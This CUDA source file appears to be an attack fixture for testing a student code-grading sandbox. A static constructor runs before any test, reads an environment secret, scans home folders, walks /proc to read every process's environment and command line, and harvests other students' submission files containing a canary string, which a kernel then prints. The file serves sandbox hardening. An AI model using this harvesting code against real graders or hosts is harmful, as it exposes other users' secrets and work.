// Looks for what the teacher's machine holds: an environment variable, a file in $HOME, the other
// submissions of the class folder. Its static constructor runs when the kernel is loaded, before
// any test: it reads its own environment and every process's, the home folders those name, and
// the folder of every `cudalab check … file.cu` command line it can see, then prints what it
// found from the kernel. Host calls (getenv, open, opendir): the import check refuses them first,
// so the test runs it with CUDALAB_UNSAFE_HOST_CALLS=1 to see the layers behind that check hold.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

namespace attack {
static char found[8192];
static void note(const char* what, const char* text) {
  const size_t used = strlen(found);
  snprintf(found + used, sizeof found - used, "%s: %.200s\n", what, text);
}
// A whole small file, NULs as newlines (environ and cmdline hold NUL-separated strings).
static int slurp(const char* path, char* out, int size) {
  const int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  const int n = static_cast<int>(read(fd, out, size - 1));
  close(fd);
  if (n <= 0) return 0;
  for (int i = 0; i < n; ++i) if (out[i] == '\0') out[i] = '\n';
  out[n] = '\0';
  return n;
}
static void look_in_folder(const char* folder) {
  DIR* dir = opendir(folder);
  if (dir == nullptr) return;
  while (dirent* entry = readdir(dir)) {
    char path[1024], text[4096];
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (slurp(path, text, sizeof text) && strstr(text, "hunter2")) note(path, text);
  }
  closedir(dir);
}
static int look() {
  if (const char* secret = getenv("CUDALAB_ATTACK_SECRET")) note("ENV", secret);
  if (const char* home = getenv("HOME")) look_in_folder(home);
  DIR* proc = opendir("/proc");
  while (proc != nullptr) {
    dirent* entry = readdir(proc);
    if (entry == nullptr) break;
    char path[512], text[8192];
    snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
    if (slurp(path, text, sizeof text)) {
      if (const char* secret = strstr(text, "hunter2")) note(path, secret);
      for (char* line = strtok(text, "\n"); line != nullptr; line = strtok(nullptr, "\n"))
        if (strncmp(line, "HOME=", 5) == 0) look_in_folder(line + 5);
    }
    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
    if (slurp(path, text, sizeof text) && strstr(text, "check")) {
      for (char* word = strtok(text, "\n"); word != nullptr; word = strtok(nullptr, "\n")) {
        char* slash = strrchr(word, '/');
        if (slash != nullptr && strstr(word, ".cu") != nullptr) {
          *slash = '\0';
          look_in_folder(word);
        }
      }
    }
  }
  if (proc != nullptr) closedir(proc);
  note("done looking", "");
  return 1;
}
static const int looked = look();
}  // namespace attack

__global__ void add_ten(const float* a, float* out, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i == 0) printf("%s", attack::found);
  if (i < n) out[i] = a[i] + 10.f;
}
